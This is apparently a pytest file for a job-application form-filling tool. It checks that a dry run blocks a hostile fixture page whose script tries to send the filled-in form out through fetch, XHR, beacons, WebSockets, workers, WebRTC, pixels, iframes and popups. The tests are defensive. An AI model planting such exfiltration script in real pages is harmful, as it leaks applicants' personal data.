"""A page that tries everything to reach a server while its form is filled, and cannot."""

import os
from pathlib import Path

import pytest

from jobctrl_dagster.apply.launcher import dry_run
from jobctrl_dagster.apply.person import Person
from tests.apply.conftest import PageServer

pytestmark = pytest.mark.browser

HOSTILE = """<!doctype html><title>Apply</title>
<meta http-equiv="Content-Security-Policy-Report-Only" content="img-src 'none'">
<form id="f" method="post" action="/submit">
 <label>Full name <input name="name" required></label>
 <label>E-mail <input type="email" name="email" required></label>
 <label>Phone <input type="tel" name="phone"></label>
 <label>CV <input type="file" name="cv"></label>
 <button>Submit application</button>
</form>
<form id="asks" method="get" action="/asked"><input type="hidden" name="secret" value="1"></form>
<script>
const other = "OTHER";
const quiet = (what) => { try { const r = what(); if (r && r.catch) r.catch(() => 0); } catch {} };
const send = "fetch(O + '/worker', {method: 'POST', body: 'x'}).catch(() => 0);"
  + "try { new WebSocket(O.replace('http', 'ws') + '/worker-socket'); } catch {}";
const source = new Blob(["const O = '" + location.origin + "';" + send]);
function attack() {
  const form = document.getElementById("f");
  quiet(() => fetch("/fetch", {method: "POST", body: new FormData(form)}));
  quiet(() => fetch("/patch", {method: "PATCH", body: "x", keepalive: true}));
  quiet(() => fetch(other + "/cross", {method: "POST", body: "x", mode: "no-cors"}));
  quiet(() => fetch(other + "/read", {mode: "no-cors"}));
  quiet(() => fetch("/moved", {mode: "no-cors"}));
  quiet(() => { const r = new XMLHttpRequest(); r.open("PUT", "/xhr"); r.send("x"); });
  quiet(() => navigator.sendBeacon("/beacon", "x"));
  quiet(() => new WebSocket(location.origin.replace("http", "ws") + "/socket"));
  quiet(() => new Worker(URL.createObjectURL(source)));
  quiet(() => navigator.serviceWorker.register("/sw.js"));
  quiet(() => { new Image().src = other + "/pixel"; });
  quiet(() => { const p = new RTCPeerConnection(
    {iceServers: [{urls: "stun:" + other.replace(/^.*\\/\\//, "")}]});
    p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o)); });
  quiet(() => form.submit());
  quiet(() => form.requestSubmit());
  quiet(() => document.getElementById("asks").submit());
  quiet(() => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const inner = frame.contentWindow;
    inner.navigator.sendBeacon("/frame-beacon", "x");
    inner.HTMLFormElement.prototype.submit.call(form);
  });
  quiet(() => window.open(other + "/popup"));
  quiet(() => {
    const popup = document.createElement("form");
    popup.method = "post"; popup.action = "/popup-post"; popup.target = "_blank";
    document.body.append(popup);
    popup.requestSubmit();
  });
}
document.addEventListener("input", attack);
document.addEventListener("change", attack);
</script>"""


def test_a_page_that_sends_while_it_is_filled_reaches_no_server(
    pages: PageServer,
    other_pages: PageServer,
    person: Person,
    documents: dict[str, Path],
    tmp_path: Path,
):
    pages.redirects["/moved"] = f"{other_pages.origin}/redirected"
    url = pages.url(HOSTILE.replace("OTHER", other_pages.origin))
    report = dry_run(
        url, person, documents, tmp_path / "run", allowed=pages.allows, environ=os.environ
    )
    assert report.state == "ready", report.sentence
    assert {field.label for field in report.filled} == {"Full name", "E-mail", "Phone", "CV"}
    assert {method for method, _ in pages.requests} == {"GET"}
    assert {path for _, path in pages.requests} <= {"/form", "/moved", "/favicon.ico", "/sw.js"}
    assert other_pages.requests == []
    blocked = set(report.blocked_requests)
    other = other_pages.origin.removeprefix("http://")
    assert {"POST /fetch", "PATCH /patch", "PUT /xhr", f"POST {other}/cross"} <= blocked
    assert {"WEBSOCKET /socket", "POST /worker", f"GET {other}/pixel"} <= blocked
    assert not any("example.com" in each or "?" in each for each in blocked)


def test_a_private_address_is_opened_only_where_it_is_allowed(
    pages: PageServer, person: Person, documents: dict[str, Path], tmp_path: Path
):
    report = dry_run(
        pages.url(HOSTILE), person, documents, tmp_path / "run", allowed=lambda _: False
    )
    assert report.state == "refused"
    assert "private" in report.sentence
    assert pages.requests == []


def test_a_redirect_to_an_address_that_is_not_allowed_is_not_followed(
    pages: PageServer,
    other_pages: PageServer,
    person: Person,
    documents: dict[str, Path],
    tmp_path: Path,
):
    pages.redirects["/form"] = f"{other_pages.origin}/form"
    other_pages.url(HOSTILE)
    report = dry_run(
        f"{pages.origin}/form", person, documents, tmp_path / "run", allowed=pages.allows
    )
    assert report.state == "refused"
    assert other_pages.requests == []
